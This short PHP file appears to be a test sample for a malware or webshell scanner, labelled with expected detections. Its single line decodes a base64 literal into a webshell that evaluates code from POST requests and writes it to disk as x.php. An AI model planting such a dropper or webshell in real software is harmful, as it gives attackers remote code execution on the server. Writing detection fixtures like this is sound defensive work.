<?php
// A webshell decoded from a literal and written to disk.
// want: php_decoded_file_drop php_request_code_exec
file_put_contents('x.php', base64_decode('PD9waHAgZXZhbCgkX1BPU1RbMV0pOyA/Pg=='));
